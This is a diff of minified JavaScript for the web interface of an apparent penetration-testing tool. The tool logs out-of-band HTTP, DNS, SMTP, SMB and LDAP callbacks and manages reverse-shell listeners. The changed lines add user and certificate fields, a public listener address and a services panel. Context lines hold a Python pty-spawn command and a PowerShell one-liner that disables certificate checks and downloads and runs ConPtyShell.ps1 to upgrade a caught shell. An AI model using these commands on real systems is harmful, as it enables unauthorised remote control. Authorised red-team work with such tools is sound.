@@ -20,7 +20,7 @@
 `+o.text.split(`
 `).map(a=>"    "+a).join(`
 `):o.text;return`${t} [${o.tag}]: ${n}`}return`${t}: ${s}`}).join(`
-`)}function At(e){r.httpEvents.unshift(e),r.httpCnt++,w("http-badge",r.httpCnt),T(),J()}function qt(e){return{GET:"m-get",POST:"m-post",PUT:"m-put",DELETE:"m-delete"}[(e||"").toUpperCase()]||"m-other"}function Rt(e){return e>=200&&e<300?"s2xx":e>=300&&e<400?"s3xx":e>=400&&e<500?"s4xx":e>=500?"s5xx":""}function J(){let e=(document.getElementById("http-search").value||"").toLowerCase(),t=document.getElementById("http-tbody"),s=document.getElementById("http-empty-row"),o=r.httpEvents.filter(n=>!e||(n.url||"").toLowerCase().includes(e)||(n.method||"").toLowerCase().includes(e)||(n.source||"").toLowerCase().includes(e)||(n.useragent||"").toLowerCase().includes(e)||String(n.status||"").includes(e));s.style.display=o.length?"none":"",t.querySelectorAll("tr.data-row, tr.http-detail-row").forEach(n=>n.remove()),o.slice(0,500).forEach((n,a)=>{let c=n.timestamp?new Date(n.timestamp).toLocaleTimeString():"",i=n.body&&n.body.trim().length>0,l=n.parameters&&n.parameters.trim().length>0,p="http-detail-"+a,h=l?(()=>{let f=Nt(n.parameters),y=n.parameters!==f;return{text:f,decoded:y}})():null,u=i?Pt(n.body):null,C=document.createElement("tr");C.className="data-row"+(a===0&&!e?" new-row":""),C.innerHTML=`
+`)}function At(e){r.httpEvents.unshift(e),r.httpCnt++,w("http-badge",r.httpCnt),T(),J()}function qt(e){return{GET:"m-get",POST:"m-post",PUT:"m-put",DELETE:"m-delete"}[(e||"").toUpperCase()]||"m-other"}function Rt(e){return e>=200&&e<300?"s2xx":e>=300&&e<400?"s3xx":e>=400&&e<500?"s4xx":e>=500?"s5xx":""}function J(){let e=(document.getElementById("http-search").value||"").toLowerCase(),t=document.getElementById("http-tbody"),s=document.getElementById("http-empty-row"),o=r.httpEvents.filter(n=>!e||(n.url||"").toLowerCase().includes(e)||(n.method||"").toLowerCase().includes(e)||(n.source||"").toLowerCase().includes(e)||(n.useragent||"").toLowerCase().includes(e)||(n.user||"").toLowerCase().includes(e)||(n.certificate||"").toLowerCase().includes(e)||String(n.status||"").includes(e));s.style.display=o.length?"none":"",t.querySelectorAll("tr.data-row, tr.http-detail-row").forEach(n=>n.remove()),o.slice(0,500).forEach((n,a)=>{let c=n.timestamp?new Date(n.timestamp).toLocaleTimeString():"",i=n.body&&n.body.trim().length>0,l=n.parameters&&n.parameters.trim().length>0,p="http-detail-"+a,h=l?(()=>{let f=Nt(n.parameters),y=n.parameters!==f;return{text:f,decoded:y}})():null,u=i?Pt(n.body):null,C=document.createElement("tr");C.className="data-row"+(a===0&&!e?" new-row":""),C.innerHTML=`
       <td class="http-ts">${d(c)}</td>
       <td><span class="http-method ${qt(n.method)}">${d(n.method||"?")}</span></td>
       <td><span class="status-code ${Rt(n.status)}">${d(String(n.status||"?"))}</span></td>
@@ -44,6 +44,11 @@
           <span class="http-detail-label">Source IP</span>
           <div class="http-detail-value">${d(n.source||"\u2014")}</div>
         </div>
+        ${n.user||n.certificate?`
+        <div class="http-detail-field">
+          <span class="http-detail-label">User</span>
+          <div class="http-detail-value">${d(n.user||"\u2014")}${n.certificate?` (certificate ${d(n.certificate)})`:""}</div>
+        </div>`:""}
         <div class="http-detail-field">
           <span class="http-detail-label">Status</span>
           <div class="http-detail-value">${d(String(n.status||"\u2014"))}</div>
@@ -253,8 +258,8 @@ c.Stdin=n;c.Stdout=n;c.Stderr=n;c.Run()
         <button class="catcher-start-btn" id="setup-btn-${e}" onclick="startCatcherListener('${e}')">Start Listener</button>
       </div>
       <div class="catcher-sessions" id="sessions-${e}"></div>
-    </div>`,document.querySelector(".catcher-layout").appendChild(c),K(e,o)}function Qt(e,t){let s=t.textContent,o=document.createElement("input");o.type="text",o.className="ctab-rename-input",o.value=s,t.textContent="",t.appendChild(o),o.focus(),o.select();let n=()=>{let a=o.value.trim()||s;t.textContent=a};o.onblur=n,o.onkeydown=a=>{a.key==="Enter"&&o.blur(),a.key==="Escape"&&(o.value=s,o.blur())}}function ut(e){let t=document.getElementById(`setup-port-${e}`),s=parseInt(t?.value,10);if(!s||s<1||s>65535){m("Invalid port (1-65535)","error");return}let o=document.getElementById(`setup-btn-${e}`);o&&(o.disabled=!0,o.textContent="Starting...");let n=document.querySelector('meta[name="csrf-token"]')?.content||"";fetch("/?catcher-api=start",{method:"POST",headers:{"Content-Type":"application/json","X-CSRF-Token":n},body:JSON.stringify({ip:"0.0.0.0",port:s})}).then(a=>a.ok?a.json():a.json().then(c=>{throw new Error(c.error||"Failed")})).then(a=>{x.listeners[e]={id:a.id,ip:a.ip,port:s,sessions:[]};let i=document.getElementById(`ctab-${e}`)?.querySelector(".ctab-label");i&&i.textContent==="Listener"&&(i.textContent=s);let l=document.getElementById(`setup-${e}`);l&&(l.className="catcher-listener-header",l.removeAttribute("id"),l.innerHTML=`
-            <span>Listening on <strong>0.0.0.0:${s}</strong></span>
+    </div>`,document.querySelector(".catcher-layout").appendChild(c),K(e,o)}function Qt(e,t){let s=t.textContent,o=document.createElement("input");o.type="text",o.className="ctab-rename-input",o.value=s,t.textContent="",t.appendChild(o),o.focus(),o.select();let n=()=>{let a=o.value.trim()||s;t.textContent=a};o.onblur=n,o.onkeydown=a=>{a.key==="Enter"&&o.blur(),a.key==="Escape"&&(o.value=s,o.blur())}}function Pu(e){let t;try{t=new URL(e)}catch{return}let s=document.getElementById("gen-ip"),o=document.getElementById("gen-port");s&&(s.value=t.hostname),o&&(o.value=t.port),oe()}function ut(e){let t=document.getElementById(`setup-port-${e}`),s=parseInt(t?.value,10);if(!s||s<1||s>65535){m("Invalid port (1-65535)","error");return}let o=document.getElementById(`setup-btn-${e}`);o&&(o.disabled=!0,o.textContent="Starting...");let n=document.querySelector('meta[name="csrf-token"]')?.content||"";fetch("/?catcher-api=start",{method:"POST",headers:{"Content-Type":"application/json","X-CSRF-Token":n},body:JSON.stringify({ip:"0.0.0.0",port:s})}).then(a=>a.ok?a.json():a.json().then(c=>{throw new Error(c.error||"Failed")})).then(a=>{x.listeners[e]={id:a.id,ip:a.ip,port:s,sessions:[]};a.public&&Pu(a.public);let i=document.getElementById(`ctab-${e}`)?.querySelector(".ctab-label");i&&i.textContent==="Listener"&&(i.textContent=s);let l=document.getElementById(`setup-${e}`);l&&(l.className="catcher-listener-header",l.removeAttribute("id"),l.innerHTML=`
+            <span>Listening on <strong>0.0.0.0:${s}</strong>${a.public?` — public <strong>${d(a.public)}</strong>`:""}</span>
             <div class="catcher-header-actions">
               <button class="catcher-restart-btn" onclick="restartCatcherListener('${e}')">Restart</button>
               <button class="catcher-stop-btn" onclick="stopCatcherListener('${e}')">Stop</button>
@@ -291,4 +296,4 @@ c.Stdin=n;c.Stdout=n;c.Stderr=n;c.Run()
 `)),setTimeout(()=>{t.ws?.readyState===WebSocket.OPEN&&t.ws.send(s.encode(`python3 -c 'import pty;pty.spawn("/bin/bash")' 2>/dev/null || python -c 'import pty;pty.spawn("/bin/bash")' 2>/dev/null || script /dev/null -qc /bin/bash 2>/dev/null || true
 `))},200),setTimeout(()=>{t.ws?.readyState===WebSocket.OPEN&&t.ws.send(s.encode(`stty rows ${o} cols ${n}
 `))},1500),t.lineMode=!1,t.lineBuffer="";let a=document.querySelector(`#session-${e} .catcher-session-linemode`);a&&a.classList.remove("active")}function xt(e){let t=x.sessions[e];if(!t?.ws||t.ws.readyState!==WebSocket.OPEN){m("Connect to the session first","err");return}let s=t.term?.rows||24,o=t.term?.cols||80,n=new TextEncoder,a=location.protocol==="https:"?"https":"http",c=location.host,l=`[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12;Add-Type -TypeDefinition 'using System.Net;using System.Security.Cryptography.X509Certificates;public class Trust{public static void Enable(){System.Net.ServicePointManager.ServerCertificateValidationCallback=delegate{return true;};}}';[Trust]::Enable();IEX((New-Object Net.WebClient).DownloadString('${`${a}://${c}/ConPtyShell.ps1?embedded`}'));Invoke-ConPtyShell -Upgrade -Rows ${s} -Cols ${o}
-`;t.ws.send(n.encode(l)),t.lineMode=!1,t.lineBuffer="";let p=document.querySelector(`#session-${e} .catcher-session-linemode`);p&&p.classList.remove("active"),m("Sent ConPtyShell upgrade command","ok")}function Ct(e){let t=x.sessions[e];t&&(t.ws&&(t.ws.close(),t.ws=null),t.term&&(t.term.dispose(),t.term=null),delete x.sessions[e])}function St(e){let t=document.querySelector('meta[name="csrf-token"]')?.content||"";fetch("/?catcher-api=kill-session",{method:"POST",headers:{"Content-Type":"application/json","X-CSRF-Token":t},body:JSON.stringify({id:e})}).then(()=>{Ct(e),document.getElementById(`session-${e}`)?.remove()}).catch(()=>{})}function $t(){Vt()}Object.assign(window,{toggleTheme:Ue,switchPanel:ze,switchCollab:Xe,clearHTTP:we,clearDNS:xe,clearSMTP:Ee,clearSMB:Ce,clearLDAP:Se,filterHTTP:ve,renderDNS:j,renderSMB:U,renderLDAP:F,renderSMTP:W,exportHTTP:ue,exportDNS:he,exportSMTP:fe,exportSMB:ye,exportLDAP:be,exportAllLogs:ge,openHTMLPreview:$e,openLightbox:ee,toggleHTTPDetail:me,previewFile:R,navigateTo:Le,filterFiles:Be,sortTable:Ie,clearSelection:te,downloadSelected:ne,downloadBulk:Pe,deleteFile:G,updateBulkBar:X,startUpload:qe,openUpload:Ne,openMkdir:Me,handleFileSelect:z,createDir:Re,removeUpload:Ae,sendClip:Qe,copyClip:Ke,deleteClip:Ze,downloadClipboard:Ye,clearClipboard:et,shareFile:Q,showQR:ot,showShareQR:rt,generateShareLink:st,deleteShareLink:it,copyShareUrl:ct,openModal:S,closeModal:A,filterEmbedded:We,sortEmbedded:_e,copyEmbLink:Je,spawnListenerTab:mt,switchCatcherTab:K,copyListenerCommand:pt,updateGeneratorOutput:oe,copyGeneratorOutput:dt,startCatcherListener:ut,restartCatcherListener:ft,stopCatcherListener:ht,showRestartForm:ae,connectCatcherSession:bt,killCatcherSession:St,resizeCatcherTerm:vt,toggleLineMode:gt,upgradeCatcherUnix:wt,upgradeCatcherWindows:xt});var Z=[],B=-1;function Et(){let e=document.getElementById("cli-input");e&&e.addEventListener("keydown",t=>{if(t.key==="Enter"){let s=e.value.trim();if(!s)return;Z.unshift(s),B=-1,re(s,"cmd"),e.value="",r.ws.send(JSON.stringify({type:"command",content:s}))}else t.key==="ArrowUp"?(B=Math.min(B+1,Z.length-1),e.value=Z[B]||"",t.preventDefault()):t.key==="ArrowDown"&&(B=Math.max(B-1,-1),e.value=B>=0?Z[B]:"",t.preventDefault())})}function re(e,t){let s=document.getElementById("cli-output");if(!s)return;let o=document.createElement("pre");o.className="cli-line"+(t?" "+t:""),o.textContent=e,s.appendChild(o),s.scrollTop=s.scrollHeight}function kt(e){e.content?re(e.content,""):re("something went wrong","err")}var L={};function Tt(e){L=e}function ce(){let e=location.protocol==="https:"?"wss":"ws";r.ws=new WebSocket(`${e}://${window.location.host}/?ws`),r.ws.onopen=()=>{document.getElementById("ws-status").style.color="var(--accent)",document.getElementById("collab-status").textContent="connected",console.log("Websocket connected")},r.ws.onclose=()=>{document.getElementById("ws-status").style.color="var(--danger)",document.getElementById("collab-status").textContent="reconnecting\u2026",setTimeout(ce,2500),console.log("WebSocket closed")},r.ws.onmessage=t=>{let s;try{s=JSON.parse(t.data)}catch{return}s.type==="dns"?L.onDNS(s):s.type==="smtp"?L.onSMTP(s):s.type==="http"?L.onHTTP(s):s.type==="smb"?L.onSMB(s):s.type==="ldap"?L.onLDAP(s):s.type==="refreshClipboard"?Ve(s):s.type==="reload"?location.reload():s.type==="catchup"?Zt(s):s.type==="updateCLI"?kt(s):s.type==="catcherConnection"&&yt(s)}}function Zt(e){let t=e.http||[];if(t.length){for(let i=t.length-1;i>=0;i--)r.httpEvents.push(t[i]);r.httpCnt=r.httpEvents.length,w("http-badge",r.httpCnt)}let s=e.dns||[];if(s.length){for(let i=s.length-1;i>=0;i--){let l=s[i];r.dnsEvents.push(l),r.dnsCnt.total++,l.qtype==="A"?r.dnsCnt.A++:l.qtype==="MX"?r.dnsCnt.MX++:l.qtype==="TXT"?r.dnsCnt.TXT++:r.dnsCnt.other++}w("dns-badge",r.dnsEvents.length),w("dns-cnt-total",r.dnsCnt.total),w("dns-cnt-a",r.dnsCnt.A),w("dns-cnt-mx",r.dnsCnt.MX),w("dns-cnt-txt",r.dnsCnt.TXT),w("dns-cnt-other",r.dnsCnt.other)}let o=e.smtp||[];if(o.length){for(let i=o.length-1;i>=0;i--)r.smtpEvents.push(o[i]);w("smtp-badge",r.smtpEvents.length)}let n=e.smb||[];if(n.length){for(let i=n.length-1;i>=0;i--)r.smbEvents.push(n[i]);w("smb-badge",r.smbEvents.length)}let a=e.ldap||[];if(a.length){for(let i=a.length-1;i>=0;i--)r.ldapEvents.push(a[i]);w("ldap-badge",r.ldapEvents.length)}let c=r.httpCnt+r.dnsEvents.length+r.smtpEvents.length+r.smbEvents.length+r.ldapEvents.length;if(c>0){let i=document.getElementById("collab-badge");i.classList.add("show"),i.textContent=c}t.length&&L.renderHTTP(),s.length&&L.renderDNS(),o.length&&L.renderSMTP(),n.length&&L.renderSMB(),a.length&&L.renderLDAP()}function Lt(){let e=document.getElementById("ctx-menu");document.getElementById("file-tbody").addEventListener("contextmenu",t=>{let s=t.target.closest("tr[data-name]");if(!s||!s.dataset.name||s.dataset.name==="..")return;t.preventDefault();let o=s.dataset.name,n=s.dataset.isdir==="true",a=!n&&V(o);document.getElementById("ctx-download").style.display=n?"none":"",document.getElementById("ctx-preview").style.display=a?"":"none",document.getElementById("ctx-preview").onclick=()=>{R(o),P()},document.getElementById("ctx-open").onclick=()=>{a?R(o):window.location.href=o+(n?"/":""),P()},document.getElementById("ctx-download").onclick=()=>{let c=document.createElement("a");c.href=o,c.download=o,c.click(),P()},document.getElementById("ctx-share").onclick=()=>{Q(o),P()},document.getElementById("ctx-delete").onclick=()=>{G(o),P()},e.style.left=Math.min(t.clientX,window.innerWidth-180)+"px",e.style.top=Math.min(t.clientY,window.innerHeight-180)+"px",e.classList.add("open")}),document.addEventListener("click",P)}function P(){document.getElementById("ctx-menu").classList.remove("open")}de(P);document.addEventListener("DOMContentLoaded",()=>{let e=sessionStorage.getItem("activeTab");if(e){sessionStorage.removeItem("activeTab");let s=document.getElementById(e);s&&s.click()}je(),Ge(),De(),Et(),Lt(),at(),$t();let t=ke();Tt(t),ce()});})();
+`;t.ws.send(n.encode(l)),t.lineMode=!1,t.lineBuffer="";let p=document.querySelector(`#session-${e} .catcher-session-linemode`);p&&p.classList.remove("active"),m("Sent ConPtyShell upgrade command","ok")}function Ct(e){let t=x.sessions[e];t&&(t.ws&&(t.ws.close(),t.ws=null),t.term&&(t.term.dispose(),t.term=null),delete x.sessions[e])}function St(e){let t=document.querySelector('meta[name="csrf-token"]')?.content||"";fetch("/?catcher-api=kill-session",{method:"POST",headers:{"Content-Type":"application/json","X-CSRF-Token":t},body:JSON.stringify({id:e})}).then(()=>{Ct(e),document.getElementById(`session-${e}`)?.remove()}).catch(()=>{})}function $t(){Vt()}Object.assign(window,{toggleTheme:Ue,switchPanel:ze,switchCollab:Xe,clearHTTP:we,clearDNS:xe,clearSMTP:Ee,clearSMB:Ce,clearLDAP:Se,filterHTTP:ve,renderDNS:j,renderSMB:U,renderLDAP:F,renderSMTP:W,exportHTTP:ue,exportDNS:he,exportSMTP:fe,exportSMB:ye,exportLDAP:be,exportAllLogs:ge,openHTMLPreview:$e,openLightbox:ee,toggleHTTPDetail:me,previewFile:R,navigateTo:Le,filterFiles:Be,sortTable:Ie,clearSelection:te,downloadSelected:ne,downloadBulk:Pe,deleteFile:G,updateBulkBar:X,startUpload:qe,openUpload:Ne,openMkdir:Me,handleFileSelect:z,createDir:Re,removeUpload:Ae,sendClip:Qe,copyClip:Ke,deleteClip:Ze,downloadClipboard:Ye,clearClipboard:et,shareFile:Q,showQR:ot,showShareQR:rt,generateShareLink:st,deleteShareLink:it,copyShareUrl:ct,openModal:S,closeModal:A,filterEmbedded:We,sortEmbedded:_e,copyEmbLink:Je,spawnListenerTab:mt,switchCatcherTab:K,copyListenerCommand:pt,updateGeneratorOutput:oe,copyGeneratorOutput:dt,startCatcherListener:ut,restartCatcherListener:ft,stopCatcherListener:ht,showRestartForm:ae,connectCatcherSession:bt,killCatcherSession:St,resizeCatcherTerm:vt,toggleLineMode:gt,upgradeCatcherUnix:wt,upgradeCatcherWindows:xt,loadServices:Sl,serviceAction:Sa});var Z=[],B=-1;function Et(){let e=document.getElementById("cli-input");e&&e.addEventListener("keydown",t=>{if(t.key==="Enter"){let s=e.value.trim();if(!s)return;Z.unshift(s),B=-1,re(s,"cmd"),e.value="",r.ws.send(JSON.stringify({type:"command",content:s}))}else t.key==="ArrowUp"?(B=Math.min(B+1,Z.length-1),e.value=Z[B]||"",t.preventDefault()):t.key==="ArrowDown"&&(B=Math.max(B-1,-1),e.value=B>=0?Z[B]:"",t.preventDefault())})}function re(e,t){let s=document.getElementById("cli-output");if(!s)return;let o=document.createElement("pre");o.className="cli-line"+(t?" "+t:""),o.textContent=e,s.appendChild(o),s.scrollTop=s.scrollHeight}function kt(e){e.content?re(e.content,""):re("something went wrong","err")}var L={};function Tt(e){L=e}function ce(){let e=location.protocol==="https:"?"wss":"ws";r.ws=new WebSocket(`${e}://${window.location.host}/?ws`),r.ws.onopen=()=>{document.getElementById("ws-status").style.color="var(--accent)",document.getElementById("collab-status").textContent="connected",console.log("Websocket connected")},r.ws.onclose=()=>{document.getElementById("ws-status").style.color="var(--danger)",document.getElementById("collab-status").textContent="reconnecting\u2026",setTimeout(ce,2500),console.log("WebSocket closed")},r.ws.onmessage=t=>{let s;try{s=JSON.parse(t.data)}catch{return}s.type==="dns"?L.onDNS(s):s.type==="smtp"?L.onSMTP(s):s.type==="http"?L.onHTTP(s):s.type==="smb"?L.onSMB(s):s.type==="ldap"?L.onLDAP(s):s.type==="refreshClipboard"?Ve(s):s.type==="reload"?location.reload():s.type==="catchup"?Zt(s):s.type==="updateCLI"?kt(s):s.type==="catcherConnection"&&yt(s)}}function Zt(e){let t=e.http||[];if(t.length){for(let i=t.length-1;i>=0;i--)r.httpEvents.push(t[i]);r.httpCnt=r.httpEvents.length,w("http-badge",r.httpCnt)}let s=e.dns||[];if(s.length){for(let i=s.length-1;i>=0;i--){let l=s[i];r.dnsEvents.push(l),r.dnsCnt.total++,l.qtype==="A"?r.dnsCnt.A++:l.qtype==="MX"?r.dnsCnt.MX++:l.qtype==="TXT"?r.dnsCnt.TXT++:r.dnsCnt.other++}w("dns-badge",r.dnsEvents.length),w("dns-cnt-total",r.dnsCnt.total),w("dns-cnt-a",r.dnsCnt.A),w("dns-cnt-mx",r.dnsCnt.MX),w("dns-cnt-txt",r.dnsCnt.TXT),w("dns-cnt-other",r.dnsCnt.other)}let o=e.smtp||[];if(o.length){for(let i=o.length-1;i>=0;i--)r.smtpEvents.push(o[i]);w("smtp-badge",r.smtpEvents.length)}let n=e.smb||[];if(n.length){for(let i=n.length-1;i>=0;i--)r.smbEvents.push(n[i]);w("smb-badge",r.smbEvents.length)}let a=e.ldap||[];if(a.length){for(let i=a.length-1;i>=0;i--)r.ldapEvents.push(a[i]);w("ldap-badge",r.ldapEvents.length)}let c=r.httpCnt+r.dnsEvents.length+r.smtpEvents.length+r.smbEvents.length+r.ldapEvents.length;if(c>0){let i=document.getElementById("collab-badge");i.classList.add("show"),i.textContent=c}t.length&&L.renderHTTP(),s.length&&L.renderDNS(),o.length&&L.renderSMTP(),n.length&&L.renderSMB(),a.length&&L.renderLDAP()}function Lt(){let e=document.getElementById("ctx-menu");document.getElementById("file-tbody").addEventListener("contextmenu",t=>{let s=t.target.closest("tr[data-name]");if(!s||!s.dataset.name||s.dataset.name==="..")return;t.preventDefault();let o=s.dataset.name,n=s.dataset.isdir==="true",a=!n&&V(o);document.getElementById("ctx-download").style.display=n?"none":"",document.getElementById("ctx-preview").style.display=a?"":"none",document.getElementById("ctx-preview").onclick=()=>{R(o),P()},document.getElementById("ctx-open").onclick=()=>{a?R(o):window.location.href=o+(n?"/":""),P()},document.getElementById("ctx-download").onclick=()=>{let c=document.createElement("a");c.href=o,c.download=o,c.click(),P()},document.getElementById("ctx-share").onclick=()=>{Q(o),P()},document.getElementById("ctx-delete").onclick=()=>{G(o),P()},e.style.left=Math.min(t.clientX,window.innerWidth-180)+"px",e.style.top=Math.min(t.clientY,window.innerHeight-180)+"px",e.classList.add("open")}),document.addEventListener("click",P)}function P(){document.getElementById("ctx-menu").classList.remove("open")}function Sv(e){let t=document.getElementById("service-cards");t&&(t.innerHTML=e.map(s=>{let o=s.running?`<span style="color: var(--accent)">● running since ${d(new Date(s.since).toLocaleString())}</span>`:'<span style="color: var(--text2)">○ stopped</span>',n=s.running?`<button class="btn btn-sm" onclick="serviceAction('restart', '${d(s.name)}')">Restart</button><button class="btn btn-sm btn-danger" onclick="serviceAction('stop', '${d(s.name)}')">Stop</button>`:`<button class="btn btn-sm btn-accent" onclick="serviceAction('start', '${d(s.name)}')">Start</button>`;return`<div class="share-card" id="service-${d(s.name)}"><div class="share-card-header"><div class="share-card-title"><span class="share-card-path">${d(s.name.toUpperCase())}</span></div><div class="share-card-actions">${n}</div></div><div class="share-card-body"><div class="share-card-meta"><div class="share-meta-item">${o}</div><div class="share-meta-item"><label for="service-port-${d(s.name)}">Port</label><input type="number" id="service-port-${d(s.name)}" value="${s.port}" min="1" max="65535" /></div>${s.error?`<div class="share-meta-item" style="color: var(--danger)">${d(s.error)}</div>`:""}</div></div></div>`}).join(""))}function Sl(){fetch("/?services-api=status").then(e=>e.ok?e.json():[]).then(Sv).catch(()=>{})}function Sa(e,t){let s=document.getElementById(`service-port-${t}`)?.value||"",o=document.querySelector('meta[name="csrf-token"]')?.content||"",n=new URLSearchParams({"services-api":e,service:t,port:s});fetch("/?"+n,{method:"POST",headers:{"X-CSRF-Token":o}}).then(a=>a.ok?a.json():a.json().then(i=>{throw new Error(i.error||"Failed")})).then(a=>{Sv(a),m(`${t.toUpperCase()} ${e==="stop"?"stopped":"started"}`,"success")}).catch(a=>{m(a.message,"error"),Sl()})}function Si(){document.getElementById("panel-services")&&Sl()}de(P);document.addEventListener("DOMContentLoaded",()=>{let e=sessionStorage.getItem("activeTab");if(e){sessionStorage.removeItem("activeTab");let s=document.getElementById(e);s&&s.click()}je(),Ge(),De(),Et(),Lt(),at(),$t(),Si();let t=ke();Tt(t),ce()});})();